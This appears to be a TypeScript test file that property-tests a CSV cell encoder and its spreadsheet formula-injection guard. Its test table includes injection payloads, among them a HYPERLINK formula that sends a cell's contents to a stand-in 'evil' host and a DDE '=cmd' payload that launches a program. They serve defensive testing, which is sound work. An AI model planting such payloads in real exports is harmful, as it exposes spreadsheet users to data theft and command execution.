import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { textCell, withoutGuard } from '../../src-main/export/csv-cell.ts';

const GUARDED = { delimiter: ',', formulaGuard: true } as const;
const PLAIN = { delimiter: ',', formulaGuard: false } as const;

/** Texts full of what CSV and spreadsheets take for something else. */
const text = fc
  .array(
    fc.oneof(
      fc.constantFrom(...`= + - @ ' " , ; | \t \r \n ＝ ＋ － ＠ \u00a0 \u{1F642}`.split(' '), ' '),
      fc.string({ maxLength: 3, unit: 'binary' }),
    ),
    { minLength: 1, maxLength: 6 },
  )
  .map((parts) =>
    parts
      .join('')
      .toWellFormed()
      .replaceAll(/[\0\uFEFF]/gu, ''),
  )
  .filter((value) => value !== '');

/** What a parser that is not ours makes of a row of cells. */
function parsed(cells: readonly string[], delimiter: string): string[] {
  const line = `${cells.join(delimiter)}\r\n`;
  return parse(line, { delimiter, record_delimiter: '\r\n' })[0] ?? [];
}

describe('a value of CSV', () => {
  it.each([',', '\t'] as const)('reads back as it was, between %j', (delimiter) => {
    const style = { delimiter, formulaGuard: false };
    fc.assert(
      fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (texts) => {
        const cells = texts.map((each) => textCell(each, style));
        expect(parsed(cells, delimiter)).toEqual(texts);
      }),
      { numRuns: 1_000 },
    );
  });

  it('never begins as a formula does, and comes back without its guard', () => {
    fc.assert(
      fc.property(text, (each) => {
        const [value = ''] = parsed([textCell(each, GUARDED), 'x'], ',');
        expect(value).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/u);
        expect(withoutGuard(value)).toBe(each);
      }),
      { numRuns: 2_000 },
    );
  });

  it.each([
    ['=HYPERLINK("http://evil/?"&A1,"ok")', `"'=HYPERLINK(""http://evil/?""&A1,""ok"")"`],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r\n=1', `"'\r\n=1"`],
    ['＝1+1', "'＝1+1"],
    ["'quoted", "''quoted"],
    ["'=1", "''=1"],
  ])('guards %j', (payload, cell) => {
    expect(textCell(payload, GUARDED)).toBe(cell);
    expect(parsed([textCell(payload, PLAIN), 'x'], ',')[0]).toBe(payload);
  });

  it('tells nothing from empty text, and quotes only what needs it', () => {
    const cells = [null, '', 'plain', 'a b', ' a', 'a ', 'a,b', 'say "x"', 'a\nb', '12'];
    expect(cells.map((each) => textCell(each, GUARDED)).join(';')).toBe(
      ';"";plain;a b;" a";"a ";"a,b";"say ""x""";"a\nb";12',
    );
  });
});
